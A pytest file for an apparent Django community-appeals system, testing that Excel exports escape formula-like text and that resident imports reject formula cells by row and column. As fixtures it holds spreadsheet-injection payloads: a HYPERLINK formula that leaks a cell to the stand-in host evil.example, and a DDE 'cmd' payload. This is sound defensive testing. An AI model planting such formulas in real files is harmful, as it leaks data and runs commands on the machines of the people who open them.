"""Residents' text in staff's spreadsheets: never a live formula, never a broken export; imports refuse
cells a spreadsheet program would run as formulas, by row and column."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from gongzhi.accounts.models import Person
from gongzhi.accounts.spreadsheets import residents_import
from gongzhi.appeals.models import Appeal
from gongzhi.appeals.services import appeal_submit
from gongzhi.core.excel import Column, ImportRejected, write_workbook

pytestmark = pytest.mark.django_db

INJECTION = '=HYPERLINK("http://evil.example/?d="&C2,"详情")'


def _cells(content: bytes) -> list:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [cell for row in sheet.iter_rows(min_row=2) for cell in row]


@pytest.mark.parametrize("text", [INJECTION, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1", "\r=1"])
def test_exported_text_that_looks_like_a_formula_stays_text(text):
    (cell,) = _cells(write_workbook("x", [Column("t", "标题")], [[text]]))
    # (XML reads a lone CR back as a line feed)
    assert cell.data_type == "s" and cell.value == "'" + text.replace("\r", "\n")


def test_numbers_stay_numbers_and_plain_text_stays_as_it_is():
    cells = _cells(write_workbook("x", [Column("a", "a"), Column("b", "b")], [[-5, "楼道灯坏了 = 没人修"]]))
    assert [c.value for c in cells] == [-5, "楼道灯坏了 = 没人修"]


def test_the_appeals_export_holds_no_formula_and_survives_a_nul(world, login):
    # Given an appeal whose title is a formula, and one stored with a NUL before inputs refused them
    appeal_submit(actor=world.resident, node=world.bld_a1a, title=INJECTION, body="x")
    broken, _ = appeal_submit(actor=world.resident, node=world.bld_a1a, title="楼道灯坏了", body="y")
    Appeal.objects.filter(pk=broken.pk).update(title="楼道\x00灯\x1b坏了")  # unscoped: test set-up
    # When staff over the place export the appeals
    response = login(world.a1_staff).get("/appeals/export.xlsx")
    # Then the file opens, the formula is text, and what Excel cannot hold is gone
    assert response.status_code == 200
    values = [c.value for c in _cells(response.content)]
    assert "'" + INJECTION in values and "楼道灯坏了" in values
    assert not any(isinstance(v, str) and v.startswith("=") for v in values)
    assert all(c.data_type != "f" for c in _cells(response.content))


def _xlsx(*rows) -> io.BytesIO:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(list(row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    return buffer


def test_an_import_refuses_formula_cells_by_row_and_column(world):
    before = Person.objects.count()
    head = ("姓名", "所在节点编码", "性别", "出生年份", "手机号", "身份证号", "房号")
    source = _xlsx(
        head,
        ("孙七", world.bld_a1a.code, "女", 1950, "13511112222", None, "301"),
        ("@SUM(1)", world.bld_a1a.code, "男", 1960, None, None, None),
        ("周八", world.bld_a1a.code, "男", 1970, None, None, "-3"),
    )
    with pytest.raises(ImportRejected) as rejected:
        residents_import(actor=world.a1_staff, source=source)
    found = {(e.row, e.column) for e in rejected.value.errors}
    assert found == {(3, "姓名"), (4, "房号")}
    assert "@" in rejected.value.errors[0].message
    assert Person.objects.count() == before
